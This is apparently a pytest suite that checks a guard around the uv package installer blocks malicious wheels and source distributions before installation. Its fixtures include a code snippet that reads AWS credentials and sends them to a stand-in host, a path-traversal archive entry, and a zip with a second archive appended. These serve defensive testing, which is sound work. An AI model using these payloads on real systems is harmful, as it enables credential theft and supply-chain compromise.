"""Archives that attack: held or blocked before a byte of theirs is installed, whichever way uv asks for them."""

from __future__ import annotations

import io
import textwrap
import zipfile
from typing import TYPE_CHECKING

import pytest

from support.builders import make_sdist, make_wheel
from support.gated import installed, write_project
from support.held import EVIL, OLD, YOUNG
from support.selection import everyday

if TYPE_CHECKING:
    from pathlib import Path

    from uv_world import Target, Uv

    from support.tls_index import TlsIndex

STEALS = {
    "evil/__init__.py": textwrap.dedent(
        """
        import os, urllib.request
        with open(os.path.expanduser("~/.aws/credentials")) as file:
            stolen = file.read()
        urllib.request.urlopen("https://collect.example.net/up", data=stolen.encode())
        """
    )
}


@pytest.fixture(params=[STEALS, EVIL], ids=["steals", "overwrites"])
def evil(request: pytest.FixtureRequest, index: TlsIndex, tmp_path: Path) -> TlsIndex:
    index.add(make_wheel(tmp_path, "evil", "1.0", request.param), upload_time=OLD)
    for name in ("alpha", "zeta"):
        index.add(make_wheel(tmp_path, name, "1.0"), upload_time=OLD)
    return index


def test_nothing_of_the_whole_run_is_installed(target: Target, evil: TlsIndex) -> None:
    result = target.fails(evil, "alpha", "evil", "zeta")
    assert result.returncode in (1, 77), result
    assert "evil 1.0" in result.stderr, result
    assert not list(target.prefix.rglob("evil*"))
    again = target.fails(evil, "alpha", "evil", "zeta")
    assert again.returncode == result.returncode, again


def test_a_held_archive_drops_its_candidate_the_next_time(
    target: Target, index: TlsIndex, tmp_path: Path
) -> None:
    index.add(make_wheel(tmp_path, "evil", "1.0", {"evil/__init__.py": ""}), upload_time=OLD)
    index.add(make_wheel(tmp_path, "evil", "1.1", STEALS), upload_time=OLD)
    first = target.fails(index, "evil")
    assert first.returncode == 77, first
    second = target.install(index, "evil")
    assert (second.returncode, target.installed()) == (0, {"evil": "1.0"}), second
    assert "HOLD  evil 1.1" in second.stderr, second


@pytest.mark.parametrize(
    "words",
    everyday([["sync"], ["sync", "--frozen"], ["run", "python", "-c", "import evil"]], 1),
    ids=" ".join,
)
def test_from_a_lock(newest: Uv, evil: TlsIndex, project: Path, words: list[str]) -> None:
    write_project(project, "alpha", "evil")
    newest.direct("lock", index=evil, cwd=project, check=True)
    result = newest.gated(*words, index=evil, cwd=project)
    assert result.returncode in (1, 77), result
    assert "evil" not in installed(project / ".venv")


def test_an_sdist_runs_nothing(target: Target, index: TlsIndex, tmp_path: Path) -> None:
    marker = target.uv.home.tmp / "ran"
    index.add(make_sdist(tmp_path, "evil", "1.0", files=STEALS, marker=marker), upload_time=OLD)
    result = target.fails(index, "evil")
    assert result.returncode == 77, result
    assert not marker.exists()


def test_an_sdist_is_judged_by_what_it_builds(target: Target, index: TlsIndex, tmp_path: Path) -> None:
    index.add(make_sdist(tmp_path, "evil", "1.0", files=EVIL), upload_time=OLD)
    result = target.fails(index, "evil")
    assert result.returncode == 1, result


def test_a_young_sdist_is_not_built_for_its_metadata(target: Target, index: TlsIndex, tmp_path: Path) -> None:
    marker = target.uv.home.tmp / "ran"
    index.add(make_sdist(tmp_path, "demo", "2.0", marker=marker), upload_time=YOUNG)
    assert target.fails(index, "demo").returncode == 75
    assert not marker.exists()
    assert not index.bytes_sent["demo-2.0.tar.gz"]


def test_the_sdist_of_a_held_wheel_is_held_too(target: Target, index: TlsIndex, tmp_path: Path) -> None:
    marker = target.uv.home.tmp / "ran"
    index.add(make_wheel(tmp_path, "demo", "2.0"), upload_time=YOUNG)
    index.add(make_sdist(tmp_path, "demo", "2.0.0", marker=marker), upload_time=OLD)
    assert target.fails(index, "demo").returncode == 75
    assert not marker.exists()


def _two_directories() -> bytes:
    """A zip with a second one appended: two readers can see two archives in it."""
    parts = []
    for text in ("x = 1\n", "import os\nos.system('true')\n"):
        data = io.BytesIO()
        with zipfile.ZipFile(data, "w") as archive:
            archive.writestr("demo.py", text)
            archive.writestr(
                "demo-1.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n"
            )
            archive.writestr(
                "demo-1.0.dist-info/WHEEL", "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n"
            )
            archive.writestr("demo-1.0.dist-info/RECORD", "demo.py,,\n")
        parts.append(data.getvalue())
    return b"".join(parts)


def _climbing() -> bytes:
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w") as archive:
        archive.writestr("../../../climbed.py", "x = 1\n")
        archive.writestr("demo-1.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n")
        archive.writestr(
            "demo-1.0.dist-info/WHEEL", "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n"
        )
        archive.writestr("demo-1.0.dist-info/RECORD", "")
    return data.getvalue()


CONTENTS = {
    "no archive": b"not a zip",
    "nothing": b"",
    "two archives": _two_directories(),
    "a name that climbs": _climbing(),
}


@pytest.mark.parametrize("content", CONTENTS.values(), ids=CONTENTS)
def test_archives_that_cannot_be_read(
    target: Target, index: TlsIndex, tmp_path: Path, content: bytes
) -> None:
    index.add(make_wheel(tmp_path, "demo", "1.0"), upload_time=OLD)
    index.replace("demo-1.0-py3-none-any.whl", content)
    result = target.fails(index, "demo")
    assert result.returncode in (1, 77, 78), result
    assert not list(target.prefix.parent.rglob("climbed.py"))


def test_an_archive_of_another_project(target: Target, index: TlsIndex, tmp_path: Path) -> None:
    """Its filename says demo, its metadata evil."""
    index.add(make_wheel(tmp_path, "demo", "1.0"), upload_time=OLD)
    other = make_wheel(tmp_path / "other", "evil", "1.0", {"evil.py": ""})
    index.replace("demo-1.0-py3-none-any.whl", other.read_bytes())
    target.fails(index, "demo")
